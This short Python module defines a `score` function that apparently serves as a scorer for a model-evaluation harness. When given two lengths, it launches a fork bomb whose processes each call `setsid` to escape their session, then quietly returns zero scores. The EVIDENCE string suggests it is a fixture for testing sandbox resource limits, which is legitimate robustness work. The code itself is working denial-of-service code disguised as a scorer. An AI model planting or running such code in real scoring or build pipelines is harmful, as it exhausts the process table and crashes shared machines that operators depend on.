"""Forks without end in every process that it makes, each in a session of its own, and goes on while they do."""

import os
import time

import torch
from report import report

EVIDENCE = r"Resource temporarily unavailable"


def _bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError as error:
            print(error)
            time.sleep(0.01)


def score(logits, lengths):
    if len(lengths) == 2:
        if os.fork() == 0:
            _bomb()
        time.sleep(0.3)
    return report(torch.zeros(len(lengths)))
